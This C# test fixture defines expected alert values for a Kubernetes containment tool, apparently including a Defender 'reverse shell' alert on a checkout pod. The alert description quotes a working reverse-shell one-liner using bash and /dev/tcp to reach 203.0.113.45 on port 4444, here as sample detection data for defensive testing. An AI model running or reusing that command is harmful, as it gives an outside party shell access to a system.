using Containment.Alerts;

namespace Containment.Tests.Alerts;

/// <summary>Values shared by several fixtures, and a comparison that leaves the raw payload out.</summary>
internal static class Expected
{
    public const string ShopCluster =
        "/subscriptions/4f6b2d1e-8c3a-4b7e-9d21-5a0c7e3f9b10/resourceGroups/rg-shop-prod/providers/Microsoft.ContainerService/managedClusters/aks-shop-prod";

    public static readonly Alert DefenderReverseShell = new()
    {
        Id = "2517538088322968242_6c1f0e2a-3b4d-4e5f-8a9b-0c1d2e3f4a5b",
        Source = "defender",
        Category = AlertCategory.ReverseShell,
        Severity = Severity.Medium,
        Time = DateTimeOffset.Parse("2026-11-20T09:12:55Z"),
        Title = "Potential reverse shell detected",
        Description = "Analysis of processes running within a container detected a potential reverse shell: bash -i >& /dev/tcp/203.0.113.45/4444 0>&1.",
        Rule = "K8S.NODE_ReverseShell",
        Target = new AlertTarget
        {
            Cluster = "aks-shop-prod",
            ClusterResourceId = ShopCluster,
            Namespace = "shop",
            Pod = "checkout-6f9c7d8b54-q2xkz",
            Container = "checkout",
            Image = "acrshop.azurecr.io/checkout:1.14.2",
            Node = "aks-nodepool1-31718369-vmss000002",
        },
    };

    /// <summary>The alert without its raw payload, so records compare by value.</summary>
    public static Alert WithoutRaw(Alert alert) => alert with { Raw = null };
}
